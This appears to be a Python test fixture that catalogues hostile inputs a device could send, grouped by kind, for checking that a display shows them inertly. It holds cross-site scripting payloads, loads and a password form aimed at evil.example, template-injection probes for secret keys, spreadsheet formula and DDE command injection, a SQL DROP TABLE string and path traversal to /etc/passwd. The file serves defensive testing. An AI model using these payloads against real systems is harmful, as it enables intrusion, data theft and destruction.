"""Texts that a hostile device could send. Each must be shown, and none may act."""

from typing import Final

_RUN = "window.hacked=1"

STRINGS: list[str] = [
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script/x>{_RUN}</script>",
    f"<script\n>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    '<script src="https://evil.example/x.js"></script>',
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"<img src=x onerror={_RUN}//",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"</svg><script>{_RUN}</script>",
    f"</text></svg><script>{_RUN}</script>",
    f"<body onload={_RUN}>",
    f"<iframe src=\"javascript:{_RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>{_RUN}</script>\"></iframe>",
    '<object data="https://evil.example/"></object>',
    '<embed src="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="password">',
    f"<a href=\"javascript:{_RUN}\">click</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:red">',
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"` onmouseover=`{_RUN}`",
    f'" autofocus onfocus="{_RUN}',
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "{{ 7 * 7 }}",
    "{{ config.SECRET_KEY }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(password)s %s %d %n",
    "{0.__class__} {label} {}",
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "|calc",
    "a,b\"c\";d",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "' OR '1'='1",
    "'; DROP TABLE device; --",
    "100%_like\\",
    "../../../../etc/passwd",
    "//evil.example/",
    "/\\evil.example/",
    "x" * 255,
    "ｗｉｄｅ ＜script＞",
    "right\u2067to\u2069left",
    "\U0001f512\u200b zero width",
    "línea—ünïcødé",
]  # fmt: skip

_OUT_OF_QUOTES: Final = [text for text in STRINGS if text.startswith(('"', "'", "`"))]
_ADDRESSES: Final = [
    text for text in STRINGS if text.startswith(("javascript:", "data:", "//", "/\\", "../"))
]
_FORMULAS: Final = [text for text in STRINGS if text.lstrip().startswith(("=", "+", "-1", "@", "＝", "|"))]
_ELEMENTS: Final = [text for text in STRINGS if "<" in text and text not in _OUT_OF_QUOTES + _ADDRESSES]
# What each place has to meet at least once: something that leaves the text, one that leaves an attribute, one that leads
# elsewhere, one that a spreadsheet would reckon, and one that a template, a database or an eye stumbles over.
KINDS: Final[dict[str, list[str]]] = {
    "elements": _ELEMENTS,
    "double quotes": [text for text in _OUT_OF_QUOTES if text[0] == '"'],
    "single quotes": [text for text in _OUT_OF_QUOTES if text[0] != '"'],
    "addresses": _ADDRESSES,
    "formulas": _FORMULAS,
    "words": [text for text in STRINGS if text not in _ELEMENTS + _OUT_OF_QUOTES + _ADDRESSES + _FORMULAS],
}
